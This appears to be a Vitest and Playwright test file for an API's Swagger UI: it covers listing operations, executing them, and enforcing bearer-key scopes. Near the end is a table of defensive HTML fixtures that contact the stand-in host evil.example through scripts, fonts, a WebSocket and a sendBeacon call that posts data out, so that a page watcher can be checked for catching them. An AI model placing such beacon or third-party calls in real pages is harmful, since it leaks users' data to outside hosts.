import { Hono } from "hono";
import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { createApp } from "../../src/api/app.ts";
import type { ApiDependencies } from "../../src/api/dependencies.ts";
import { startServer } from "../../src/api/server.ts";
import { sha256Of } from "../../src/config/api-keys.ts";
import { findChromium, launchChromium } from "../support/chromium.ts";
import { useDatabase } from "../support/database.ts";
import { type WatchedPage, watchPage } from "../support/watch-page.ts";
import { poolFor, READY } from "./api-under-test.ts";

const chromium = findChromium();
const database = useDatabase();
let pool: ReturnType<typeof poolFor>;
let browser: Browser;

beforeAll(async () => {
  pool = poolFor(database.url);
  if (chromium !== undefined) browser = await launchChromium(chromium);
});
afterAll(async () => {
  await browser?.close();
  await pool.end();
});
afterEach(() => pool.query("select outbox.resume(actor => 'dba')"));

/** The page of a server, that both last as long as the test. */
async function open(
  app: Pick<Hono, "fetch">,
  path: string,
): Promise<WatchedPage & { readonly origin: string }> {
  const server = await startServer({ app: app as never, host: "127.0.0.1", port: 0, graceMs: 1_000 });
  onTestFinished(() => server.stop());
  const watched = await watchPage(browser, server.url);
  onTestFinished(() => watched.close());
  await watched.page.goto(server.url + path);
  return { ...watched, origin: server.url };
}

async function openSwaggerUi(overrides: Partial<ApiDependencies> = {}) {
  const app = createApp({
    pool,
    ready: () => READY,
    alive: () => ({ alive: true }),
    metrics: async () => ({ contentType: "text/plain; version=0.0.4; charset=utf-8", body: "up 1\n" }),
    version: "1.2.3",
    log: () => {},
    loopbackOnly: true,
    ...overrides,
  });
  const opened = await open(app as never, "/api/v1/swagger/index.html");
  await opened.page.locator(".opblock").first().waitFor();
  return opened;
}

interface Document {
  readonly paths: Readonly<Record<string, Readonly<Record<string, { readonly operationId: string }>>>>;
}

/** The operation's place on the page, opened. */
async function expand(page: Page, operationId: string): Promise<Locator> {
  const block = page.locator(`.opblock[id$="-${operationId}"]`);
  await block.locator(".opblock-summary-control").click();
  await block.locator(".responses-table .response").first().waitFor();
  return block;
}

/** Sends it as it is filled in; the status and the body that the page then shows. */
async function execute(block: Locator): Promise<{ readonly status: number; readonly body: string }> {
  await block.getByRole("button", { name: "Execute" }).click();
  const answer = block.locator(".live-responses-table tbody tr").first();
  const status = await answer.locator(".response-col_status").innerText();
  return {
    status: Number.parseInt(status, 10),
    body: await answer.locator(".response-col_description").innerText(),
  };
}

const scheduler = async () =>
  (
    await pool.query<{ running: boolean; changed_by: string }>(
      "select running, changed_by from outbox.scheduler",
    )
  ).rows[0];

describe.skipIf(chromium === undefined)("Swagger UI in Chromium", () => {
  test("shows every operation of the document, and each one opened", async () => {
    const { page, origin, requests, faults, settled } = await openSwaggerUi();
    const { paths } = (await (await fetch(`${origin}/api/v1/openapi.json`)).json()) as Document;
    const documented = Object.entries(paths).flatMap(([path, methods]) =>
      Object.entries(methods).map(([method, { operationId }]) => ({
        line: `${method.toUpperCase()} ${path}`,
        operationId,
      })),
    );

    const shown = await Promise.all(
      (await page.locator(".opblock-summary").all()).map(async (summary) => {
        const method = await summary.locator(".opblock-summary-method").innerText();
        return `${method} ${await summary.locator(".opblock-summary-path").getAttribute("data-path")}`;
      }),
    );
    expect(shown.toSorted()).toEqual(documented.map(({ line }) => line).toSorted());

    for (const { operationId } of documented) {
      const block = await expand(page, operationId);
      await block.getByRole("tab", { name: "Schema" }).first().click();
      // Not a click, which would wait for every movement on the page to end.
      await block.locator(".opblock-summary-control").dispatchEvent("click");
    }
    await settled();
    expect(faults).toEqual([]);
    expect(requests.map(({ url }) => new URL(url ?? "").pathname)).toEqual(
      expect.arrayContaining([
        "/api/v1/openapi.json",
        "/api/v1/swagger/swagger-ui-dist/swagger-ui-bundle.js",
        "/api/v1/swagger/swagger-ui-dist/favicon-32x32.png",
      ]),
    );
  }, 120_000);

  test("executes POST /scheduler/toggle", async () => {
    const { page, faults, settled } = await openSwaggerUi();
    const block = await expand(page, "toggleScheduler");
    const { status, body } = await execute(block);
    expect(status).toBe(200);
    expect(body).toContain('"running": false');
    expect(await scheduler()).toEqual({ running: false, changed_by: "api" });
    await settled();
    expect(faults).toEqual([]);
  });

  test("executes POST /messages, with the example that it shows", async () => {
    const { page, faults, settled } = await openSwaggerUi();
    const { status, body } = await execute(await expand(page, "createMessages"));
    expect(status, body).toBe(201);
    const { rows } = await pool.query("select recipient, content from outbox.messages");
    expect(rows).toHaveLength(1);
    expect(body).toContain(rows[0].content);
    await settled();
    expect(faults).toEqual([]);
  });

  describe("of a server with keys", () => {
    const key = {
      name: "night-shift",
      scopes: ["operate"],
      sha256: sha256Of("k-1"),
      expiresAt: undefined,
    } as const;
    const reader = {
      name: "reader",
      scopes: ["read"],
      sha256: sha256Of("k-2"),
      expiresAt: undefined,
    } as const;

    async function authorise(page: Page, token: string): Promise<void> {
      await page.getByRole("button", { name: "Authorize" }).click();
      const dialog = page.locator(".dialog-ux");
      await dialog.getByRole("textbox").fill(token);
      await dialog.getByRole("button", { name: "Apply credentials" }).click();
      await dialog.getByRole("button", { name: "Close" }).first().click();
    }

    test("shows 401 to who has not authorised", async () => {
      const { page, faults, settled } = await openSwaggerUi({ keys: [key, reader] });
      const { status, body } = await execute(await expand(page, "toggleScheduler"));
      expect(status).toBe(401);
      expect(body).toContain("urn:outbox-relayer:problem:unauthenticated");
      expect(await scheduler()).toMatchObject({ running: true });
      // A browser notes every answer of that kind.
      await settled();
      expect(faults).toEqual([expect.stringMatching(/^console: .* status of 401/)]);
    });

    test("sends the key that was given to Authorize, and its scopes decide", async () => {
      const { page, requests, faults, settled } = await openSwaggerUi({ keys: [key, reader] });
      await authorise(page, "k-1");
      const toggled = await execute(await expand(page, "toggleScheduler"));
      expect(toggled.status).toBe(200);
      expect(requests.at(-1)).toMatchObject({ method: "POST", headers: { authorization: "Bearer k-1" } });
      expect(await scheduler()).toEqual({ running: false, changed_by: "night-shift" });
      await settled();
      expect(faults).toEqual([]);

      const read = await execute(await expand(page, "getScheduler"));
      expect(read.status).toBe(403);
      await settled();
      expect(faults).toEqual([expect.stringMatching(/^console: .* status of 403/)]);
    });
  });
});

describe.skipIf(chromium === undefined)("the watch over a page notices", () => {
  const STRICT = { "Content-Security-Policy": "default-src 'self'; style-src 'self'" };

  test.each<[string, string, Record<string, string>, RegExp]>([
    [
      "an image of another host",
      '<img src="http://evil.example/i.png">',
      {},
      /^another host: GET http:\/\/evil\.example\/i\.png$/,
    ],
    [
      "a script of another host",
      '<script src="https://evil.example/s.js"></script>',
      {},
      /^another host: CONNECT evil\.example:443$/,
    ],
    [
      "a font of another host",
      "<style>@font-face{font-family:f;src:url(http://evil.example/f)}p{font-family:f}</style><p>x",
      {},
      /^another host: GET .*\/f$/,
    ],
    [
      "another port of this machine",
      '<img src="http://127.0.0.1:65000/i.png">',
      {},
      /^another host: GET http:\/\/127\.0\.0\.1:65000\//,
    ],
    [
      "an icon of another host",
      '<link rel="icon" href="http://evil.example/icon.png">',
      {},
      /^another host: GET .*icon\.png$/,
    ],
    [
      "a socket to another host",
      "<script>new WebSocket('ws://evil.example/')</script>",
      {},
      /^another host: CONNECT evil\.example:80$/,
    ],
    [
      "a beacon to another host",
      "<script>navigator.sendBeacon('http://evil.example/b', 'x')</script>",
      {},
      /^another host: POST/,
    ],
    ["an error in the console", "<script>console.error('oh no')</script>", {}, /^console: oh no$/],
    ["a warning in the console", "<script>console.warn('beware')</script>", {}, /^console: beware$/],
    ["something that is not there", '<img src="/nowhere.png">', {}, /^console: .* 404/],
    ["an exception", "<script>throw new Error('a bug')</script>", {}, /^exception: a bug$/],
    [
      "a promise that nobody caught",
      "<script>Promise.reject(new Error('a bug'))</script>",
      {},
      /^exception: a bug$/,
    ],
    [
      "a style that the policy forbids",
      "<style>p { color: red }</style>",
      STRICT,
      /^policy: style-src-elem inline/,
    ],
    [
      "a style attribute that the policy forbids",
      '<p style="color: red">',
      STRICT,
      /^policy: style-src-attr inline/,
    ],
    [
      "a script that the policy forbids",
      "<script>window.x = 1</script>",
      STRICT,
      /^policy: script-src-elem inline/,
    ],
  ])("%s", async (_name, html, headers, fault) => {
    const icon = html.includes("icon") ? "" : '<link rel="icon" href="data:,">';
    const page = `<!doctype html>${icon}${html}`;
    const { faults } = await open(
      new Hono().get("/", (c) => c.html(page, 200, headers)),
      "/",
    );
    await expect
      .poll(() => faults, { interval: 20, timeout: 10_000 })
      .toContainEqual(expect.stringMatching(fault));
  });

  test("nothing, where there is nothing", async () => {
    const page = '<!doctype html><link rel="icon" href="data:,"><p>All is well.';
    const { faults, settled } = await open(
      new Hono().get("/", (c) => c.html(page)),
      "/",
    );
    await settled();
    expect(faults).toEqual([]);
  });
});
